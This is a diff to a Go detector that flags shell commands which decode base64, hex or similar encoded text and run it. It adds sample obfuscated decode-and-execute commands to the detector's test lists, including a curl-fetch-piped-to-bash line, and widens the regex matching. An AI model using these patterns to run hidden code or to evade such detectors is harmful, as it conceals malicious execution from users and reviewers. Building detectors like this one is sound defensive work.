@@ -17,10 +17,11 @@ var runDecode = Detector{
 	Why:    "encoded text was decoded and handed to a shell or interpreter",
 	Detect: onCommands(decodeRun),
 	Fire: lines(coi.High,
-		"echo aWQK | base64 -d | bash", "echo aWQ= | base64 -d | xargs -I{} sh -c {}", "python3 -m base64 -d <<< aWQ= | sh", "bash -c \"$(echo aWQK | base64 --decode)\"", "eval $(printf 6964 | xxd -r -p)", "base64 -d payload.b64 | sh", "sh <<< $(base64 -d <<< aWQK)",
+		"echo aWQK | base64 -d | bash", "echo aWQK | /tmp/.a -di | /tmp/.b", "/tmp/.b -c \"$(echo 6964 | /tmp/.a -r -p)\"", "echo aWQ= | base64 -d | xargs -I{} sh -c {}", "python3 -m base64 -d <<< aWQ= | sh", "bash -c \"$(echo aWQK | base64 --decode)\"", "eval $(printf 6964 | xxd -r -p)", "base64 -d payload.b64 | sh", "sh <<< $(base64 -d <<< aWQK)",
 		"bash <(echo aWQK | base64 -d)", "echo aWQK > /tmp/a; base64 -d /tmp/a > /tmp/b; sh /tmp/b", "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"",
 		"php -r 'eval(base64_decode(\"c3lzdGVtKCdpZCcpOw==\"));'", "perl -MMIME::Base64 -e 'eval(decode_base64($ARGV[0]))' x", "node -e 'eval(Buffer.from(\"MSsx\",\"base64\").toString())'",
 		"openssl enc -base64 -d -in x | bash", "echo 'di' | rev | sh", "strings img.png | tail -n 1 | base64 -d | sh", "steghide extract -sf a.jpg -p x -xf - | sh", "echo vq | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", "printf '\\151\\144' | base64 -d | sudo bash",
+		"node -e \"$(echo Y29uc29sZS5sb2coMSk= | base64 -d)\"", `node -e 'new Function(atob("MSsx"))()'`, "printf '%b' '\\151\\144' | sh",
 		"cp /usr/bin/base64 /tmp/z; echo aWQK | /tmp/z -d | sh", "echo aWQK | openssl base64 -d | python3",
 		"x=$(echo aWQK | base64 -d); $x", "curl -s https://example.com/p | base64 -d | bash",
 	),
@@ -28,7 +29,7 @@ var runDecode = Detector{
 		"echo \"$CERT\" | base64 --decode | ./bin/show -text", "python3 -c 'import subprocess;subprocess.run(\"echo aGk= | base64 -d > f\", shell=True)'",
 		"echo \"$KEY\" | base64 -d > ~/.ssh/id_ed25519", "kubectl get secret s -o jsonpath='{.data.x}' | base64 -d", "base64 -d cert.b64 > ca.crt", "echo $K | base64 --decode | docker login -u x --password-stdin r",
 		"python3 -c \"from base64 import b64decode;print(b64decode('aGk='))\"", "echo aGk= | base64 -d", "echo \"$KUBECONFIG_B64\" | base64 -d > kubeconfig && kubectl get pods", "gunzip -c x.sql.gz | psql",
-		"jq -r .x f | base64 -d | jq .", "node -e \"console.log(Buffer.from('aGk=','base64').toString())\"",
+		"jq -r .x f | base64 -d | jq .", "node -e 'console.log(process.argv[1])' \"$(echo aGk= | base64 -d)\"", "python3 -c 'import json,base64,sys;print(json.loads(base64.b64decode(sys.argv[1])))' e30=", "node -e \"console.log(Buffer.from('aGk=','base64').toString())\"",
 	),
 }
 
@@ -94,6 +95,9 @@ func decodeRun(s *command.Simple, v track.View) *Finding {
 			return say(s, coi.High, "decoded text run")
 		}
 	}
+	if slices.ContainsFunc(codeSources(s), decoderStage) {
+		return say(s, coi.High, "decoded text run by "+s.Name)
+	}
 	for _, c := range s.Code {
 		if !scripted(s) && evaluates(squeeze(strings.ToLower(ownText(c.Text)))) {
 			return say(s, coi.High, "decoded code run by "+s.Name)
@@ -102,8 +106,21 @@ func decodeRun(s *command.Simple, v track.View) *Finding {
 	return nil
 }
 
+// codeSources are the commands whose output stands in the words that are program
+// text.
+func codeSources(s *command.Simple) []*command.Simple {
+	var out []*command.Simple
+	for i, a := range s.Argv {
+		from := s.Sources(i)
+		if i > 0 && a != "" && len(from) > 0 && slices.ContainsFunc(s.Code, func(c command.Code) bool { return strings.HasSuffix(c.Text, a) }) {
+			out = append(out, from...)
+		}
+	}
+	return out
+}
+
 const (
-	runWords    = `(?:\bexec|\beval|system|popen|\bfunction|\bassert|iex|invoke-expression|loadstring|\bload|instance_eval|subprocess\.\w+|child_process[^;]{0,20}|execsync|shell_exec|passthru|runinthiscontext|compile)`
+	runWords    = `(?:\bexec|\beval|system|popen|\b(?:new)?function|\bassert|iex|invoke-expression|loadstring|\bload\(|instance_eval|subprocess\.\w+|child_process[^;]{0,20}|execsync|shell_exec|passthru|runinthiscontext|compile)`
 	decodeWords = `(?:b64decode|base64|decode64|unhexlify|fromhex|hex2bin|atob\(|fromcharcode|decompress|gzinflate|rot13|codecs\.decode|marshal\.loads|decode_base64|unpack\s*\(?["']?[hmu]\b|pack\s*\(?["']?[hmu]|unpack\(["']?[hmu]|(?:\\[0-9]{2,3}){4,}|buffer\.from|chr\(ord\(|chr\(\w+\^|codecs\.encode|translate\(|\[::-1\])`
 )
 
@@ -125,20 +142,31 @@ func ownText(src string) string {
 	return src
 }
 
-// evaluates reports code that runs what it decodes: the decoder stands in the
-// argument of eval, or fills a variable that is.
-func evaluates(q string) bool {
-	if runsDecoded.MatchString(q) {
+// evaluates reports code that runs what it decodes.
+func evaluates(q string) bool { return runsValue(q, runsDecoded, decodedValue) }
+
+// runsValue reports code in which a source stands in the argument of what runs
+// text, or fills a variable that does. Value has the variable as its group.
+func runsValue(q string, direct, value *regexp.Regexp) bool {
+	if direct.MatchString(q) {
 		return true
 	}
-	for _, m := range decodedValue.FindAllStringSubmatch(q, 8) {
-		for _, w := range []string{"exec(", "eval(", "eval", "system(", "popen(", "iex", "loadstring(", "assert(", "shell_exec(", "function("} {
-			if i := strings.Index(q, w+m[1]); i >= 0 && !(i > 0 && q[i-1] == '.' && w == "exec(") {
+	for _, m := range value.FindAllStringSubmatch(q, 8) {
+		for _, w := range []string{"exec(", "eval(", "eval", "system(", "popen(", "iex", "loadstring(", "assert(", "shell_exec(", "function(", "getoutput(", "check_output(", "subprocess.run(", "execsync(", "passthru("} {
+			i := strings.Index(q, w+m[1])
+			if i < 0 || i > 0 && q[i-1] == '.' && w == "exec(" {
+				continue
+			}
+			if end := i + len(w+m[1]); end == len(q) || !wordByte(q[end]) {
 				return true
 			}
 		}
 	}
 	return false
+}
+
+func wordByte(c byte) bool {
+	return c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
 }
 
 // ranDecoded reports programs whose file this text decoded.
